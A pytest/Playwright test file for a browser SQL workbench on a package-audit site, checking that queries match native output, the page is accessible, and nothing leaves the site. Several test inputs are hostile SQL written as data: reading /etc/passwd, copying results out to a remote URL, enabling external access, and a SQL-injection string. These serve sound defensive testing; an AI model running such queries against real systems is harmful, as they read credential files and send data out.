"""The workbench in a real browser: every query as this program answers it, and nothing leaves the site."""

import csv
import json
import os
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page

from audit.answers import csv as as_csv
from audit.dataset.dataset import Dataset
from audit.queries.catalog import Group, load
from audit.site.workbench import MISSING, PATH, is_built
from tests.browser import DESKTOP, PHONE, Seen, chromium, tab, unreadable
from tests.hostile import SCRIPT, TEXTS
from tests.served import files_served
from tests.site.checkers import barriers
from tests.site.reading import Site

pytestmark = pytest.mark.slow

QUERIES = load().group(Group.STATISTICS, Group.FLAGS)
# A file for others has no environment of the machine that made it: the form offers those of today.
GIVEN = {"pick_history": {"environment": "today"}}
ENDED = ", ".join(f"#workbench[data-state={state}]" for state in ("answered", "failed", "broken"))


@pytest.fixture(scope="module", autouse=True)
def _built() -> None:
    if not is_built():
        assert not os.environ.get("CI"), MISSING
        pytest.skip(MISSING)


@pytest.fixture(scope="module")
def native(crawled_sample: Path) -> dict[str, str]:
    """What this program answers, as CSV."""
    with Dataset(crawled_sample) as opened:
        return {
            query.name: as_csv.render(opened.query(query.name, **GIVEN.get(query.name, {})).arrow())
            for query in QUERIES
        }


@pytest.fixture(scope="module")
def address(site: Site) -> Iterator[str]:
    with files_served(site.folder) as served:
        yield served


@pytest.fixture(scope="module")
def browser(address: str, native: dict[str, str], hostile_site: Site) -> Iterator[Browser]:
    # After all else: while Playwright's event loop runs in this thread, nothing can be crawled.
    with chromium() as launched:
        yield launched


def asked(page: Page) -> str:
    """How a question ended."""
    page.wait_for_selector(ENDED)
    return str(page.get_attribute("#workbench", "data-state"))


def run(page: Page) -> str:
    """Runs what the editor holds; how it ended."""
    page.evaluate("document.getElementById('workbench').dataset.state = 'waiting'")
    page.click("#workbench-run")
    return asked(page)


def saved(page: Page, folder: Path) -> str:
    with page.expect_download() as download:
        page.click("#workbench-csv")
    download.value.save_as(folder / "answer.csv")
    return (folder / "answer.csv").read_text("utf-8")


def rows(text: str) -> list[list[object]]:
    """CSV with numbers as numbers: JavaScript writes some of them in another way."""
    return [[number(cell) for cell in row] for row in csv.reader(text.splitlines(keepends=True))]


def number(cell: str) -> object:
    try:
        return float(cell)
    except ValueError:
        return cell


def is_quiet(seen: Seen, address: str) -> bool:
    return seen.messages == [] and all(asked.startswith((f"{address}/", f"blob:{address}/")) for asked in seen.asked)


def test_every_query_answers_as_this_program_does(
    browser: Browser, address: str, native: dict[str, str], tmp_path: Path
) -> None:
    with tab(browser) as (page, seen):
        page.goto(f"{address}/{PATH}")
        assert asked(page) == "answered"
        offered = page.eval_on_selector_all("#workbench-query option", "found => found.map(({ value }) => value)")
        assert sorted(offered) == sorted(native)
        for name in offered:
            page.select_option("#workbench-query", name)
            assert run(page) == "answered", (name, page.inner_text("#workbench-error"))
            assert rows(saved(page, tmp_path)) == rows(native[name]), name
        assert is_quiet(seen, address), (seen.messages, seen.asked)


def test_a_form_gives_parameters_and_refuses_what_is_out_of_bounds(
    browser: Browser, address: str, crawled_sample: Path, tmp_path: Path
) -> None:
    with tab(browser) as (page, _):
        page.goto(f"{address}/{PATH}")
        asked(page)
        page.select_option("#workbench-query", "late_files")
        page.fill("[name=window_days]", "30")
        page.select_option("[name=reason_]", "sdist")
        assert run(page) == "answered"
        assert page.locator("#workbench-table tbody tr").count() == 2
        assert "window_days := 30, reason_ := 'sdist'" in page.inner_text("#workbench-editor .cm-content")
        page.fill("[name=window_days]", "0")
        page.evaluate("document.getElementById('workbench').dataset.state = 'waiting'")
        page.click("#workbench-run")
        assert page.get_attribute("#workbench", "data-state") == "waiting"
        page.fill("[name=window_days]", "30")
        page.fill("[name=project_]", "'); drop table files; --")
        assert run(page) == "answered"
        assert page.inner_text("#workbench-count") == "0 rows"


def test_a_permalink_holds_what_was_asked(browser: Browser, address: str) -> None:
    with tab(browser) as (page, seen):
        page.goto(f"{address}/{PATH}#sql={quote('select 6 * 7 as answer')}")
        assert asked(page) == "answered"
        for _ in range(2):
            assert page.inner_text("#workbench-table tbody") == "42"
            page.goto("about:blank")
            page.go_back()
            page.reload()
            assert asked(page) == "answered"
        assert is_quiet(seen, address) or all(each == "about:blank" or each.startswith(address) for each in seen.asked)


@pytest.mark.parametrize(
    "sql",
    [
        "from read_csv('http://127.0.0.1:9/stolen.csv')",
        "from 'https://example.com/numbers.parquet'",
        "from read_text('/etc/passwd')",
        "attach 'https://example.com/other.duckdb' as other",
        "install httpfs",
        "load httpfs",
        "set enable_external_access = true",
        "create table main.kept as select 1",
        "copy (select 1) to 'https://example.com/taken.csv'",
    ],
)
def test_a_strangers_sql_reaches_nothing_else(browser: Browser, address: str, sql: str) -> None:
    with tab(browser) as (page, seen):
        page.goto(f"{address}/{PATH}#sql={quote(sql)}")
        # It fetches what it would install only when that is loaded, so never here.
        assert asked(page) == ("answered" if sql.startswith("install") else "failed")
        assert all(each.startswith(f"{address}/") for each in seen.asked), seen.asked


def test_a_strangers_texts_do_nothing(browser: Browser, hostile_site: Site) -> None:
    texts = " union all ".join(f"select '{text.replace(chr(39), chr(39) * 2)}' as text, 1 as count" for text in TEXTS)
    with files_served(hostile_site.folder) as address, tab(browser) as (page, seen):
        for sql in ("from late_files()", "from files", texts, f'select 1 as "{SCRIPT}"', SCRIPT):
            page.goto(f"{address}/{PATH}#sql={quote(sql)}")
            page.reload()
            asked(page)
            assert page.title().startswith("Workbench"), sql
            assert page.locator("#workbench-table img, #workbench-table script, #workbench-table b").count() == 0
        assert all(each.startswith(f"{address}/") for each in seen.asked), seen.asked


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [PHONE, DESKTOP])
def test_it_fits_the_screen_and_is_accessible(browser: Browser, address: str, width: int, scheme: str) -> None:
    with tab(browser, width=width, scheme=scheme) as (page, seen):
        page.goto(f"{address}/{PATH}")
        assert asked(page) == "answered"
        page.wait_for_selector("#workbench-plot svg")
        assert page.evaluate("document.documentElement.scrollWidth") == width
        assert unreadable(page) == []
        assert barriers(page) == []
        assert is_quiet(seen, address), seen.messages


def test_the_editor_completes_names(browser: Browser, address: str) -> None:
    with tab(browser) as (page, seen):
        page.goto(f"{address}/{PATH}")
        assert asked(page) == "answered"
        page.click("#workbench-editor .cm-content")
        page.keyboard.press("Control+A")
        page.keyboard.type("from late_rel")
        page.wait_for_selector("#workbench-editor .cm-tooltip-autocomplete")
        assert "late_releases" in page.inner_text("#workbench-editor .cm-tooltip-autocomplete")
        assert is_quiet(seen, address), seen.messages


def test_the_site_says_what_its_data_leaves_out(site: Site) -> None:
    assert "SHA-256 digests of files" in (site.folder / PATH).read_text("utf-8")
    catalog = json.loads((site.folder / "workbench" / "catalog.json").read_text("utf-8"))
    assert "sha256" not in str(catalog["relations"])
    assert {"lag_us", "uploaded_at"} <= set(catalog["relations"]["file_lags"])
